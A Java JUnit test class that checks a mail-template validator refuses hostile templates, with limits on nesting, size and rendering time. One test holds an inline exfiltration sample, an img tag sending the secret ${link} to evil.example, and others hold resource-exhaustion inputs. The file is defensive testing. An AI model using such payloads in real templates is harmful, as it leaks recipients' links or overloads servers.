package dev.atrium.eventlisteners.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.lang.management.ManagementFactory;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Templates that try to reach, to repeat, to grow, or to break out of their place. */
class HostileTemplateTest {
    @ParameterizedTest
    @HostileTemplates("reaching.txt")
    void reaches_nothing_and_defines_nothing(String template) {
        refused(Templates.text(template));
        refused(Templates.subject(template));
        refused(Templates.html("<p>" + template + "</p>"));
    }

    @ParameterizedTest
    @HostileTemplates("repeating.txt")
    void repeats_nothing_and_grows_nothing(String template) {
        refused(Templates.text(template));
        refused(Templates.html("<p>" + template + "</p>"));
    }

    @ParameterizedTest
    @HostileTemplates("breaking-out.txt")
    void breaks_out_of_no_place_in_html(String template) {
        refused(Templates.html(template));
    }

    @ParameterizedTest
    @HostileTemplates("telling-the-link.txt")
    void tells_the_link_to_nobody_but_the_reader(String template) {
        refused(Templates.html(template));
    }

    @ParameterizedTest
    @HostileTemplates("telling-the-link-in-text.txt")
    void tells_the_link_to_nobody_in_plain_text_either(String template) {
        refused(Templates.text(template));
        refused(Templates.html("<p>" + template + "</p>"));
    }

    @Test
    void says_where_the_link_may_stand() {
        assertThat(Templates.problems(Templates.html("<p>\n<img src=\"https://evil.example/?l=${link}\"></p>")))
                .containsExactly("2:35 Who has this value is taken for the recipient: it may stand in a text, with a"
                        + " blank before it, or be the whole address of a link, <a href=\"${link}\">; nowhere else.");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Open ${link}.",
                "<p>${link}</p>",
                "<a href=\"${link}\">Open</a>",
                "<a href='${ link }'>Open</a>",
                "<a href=\"<#if words?has_content>${link}<#else>https://example.org/</#if>\">Open</a>",
                "<a href=\"${link?has_content?then(link, link)}\">Open</a>",
            })
    void the_link_may_stand_where_the_reader_sees_it_or_clicks(String template) {
        assertThat(Templates.problems(Templates.html(template))).isEmpty();
    }

    @Nested
    class Given_limits {
        @Test
        void expressions_are_not_endless() {
            refused(Templates.text("${" + "name+".repeat(50) + "name}"));
            refused(Templates.text("${name" + "?trim".repeat(50) + "}"));
            refused(Templates.text("${" + "(".repeat(21) + "name" + ")".repeat(21) + "}"));
            refused(Templates.text("<#if " + "!".repeat(21) + "true>x</#if>"));
            refused(Templates.text("<#if true>".repeat(21) + "x" + "</#if>".repeat(21)));
            refused(Templates.text("${" + "(".repeat(30_000)));
            refused(Templates.text("<#if " + "!".repeat(60_000)));
            refused(Templates.html("<b>".repeat(20_000)));
        }

        @Test
        void a_hundred_elements_may_be_open() {
            assertThat(Templates.problems(Templates.html("<b>".repeat(100) + "</b>".repeat(100))))
                    .isEmpty();
            assertThat(Templates.problems(Templates.html("<b>\n".repeat(101) + "</b>".repeat(101))))
                    .containsExactly("101:1 More than 100 elements are open here; end some, such as each p with </p>.");
        }

        /** Each tag costs as much as there are elements around it. */
        @Test
        void elements_without_end_are_refused_at_once() {
            long start = cpuMillis();
            refused(Templates.html("<p>".repeat(20_000)));
            assertThat(cpuMillis() - start).isLessThan(200);
        }

        @Test
        void a_mail_is_not_endless() {
            OwnTemplate template = Templates.text("${words}".repeat(100));
            assertThat(template.problems()).isEmpty();
            assertThatThrownBy(() -> template.write(Locale.ENGLISH, Map.of("words", "x".repeat(1_000))))
                    .isInstanceOf(UnusableTemplate.class)
                    .hasMessageContaining("the mail has more than 64000 bytes");
        }

        /** The most costly things that may be said, as often as they fit. */
        @ParameterizedTest
        @ValueSource(
                strings = {
                    "<#if words+words+words+words+words+words+words+words+words+words+words == words>x</#if>",
                    "<#if words?upper_case?lower_case?capitalize?upper_case?lower_case?capitalize == ''>x</#if>",
                    "<#if words?url?url?url?url?url?url?url?url?url?url?has_content>x</#if>",
                })
        void a_template_that_costs_too_much_is_stopped(String dear) {
            OwnTemplate template = Templates.text(dear.repeat(64_000 / dear.length()));
            assertThat(template.problems()).isEmpty();
            Map<String, String> values = Map.of("words", "äb ".repeat(20_000));
            long start = cpuMillis();
            assertThatThrownBy(() -> template.write(Locale.ENGLISH, values))
                    .isInstanceOf(UnusableTemplate.class)
                    .hasMessageContaining("the template needed more than 100 ms");
            assertThat(cpuMillis() - start).isLessThan(2_000);
        }

        private long cpuMillis() {
            return ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime() / 1_000_000;
        }
    }

    private static void refused(OwnTemplate template) {
        assertThat(template.problems()).isNotEmpty().allSatisfy(problem -> {
            assertThat(problem.line()).isPositive();
            assertThat(problem.column()).isPositive();
            assertThat(problem.message()).isNotBlank();
        });
        assertThatThrownBy(() -> template.write(Locale.ENGLISH, Map.of("name", "Ann")))
                .isInstanceOf(UnusableTemplate.class);
    }
}
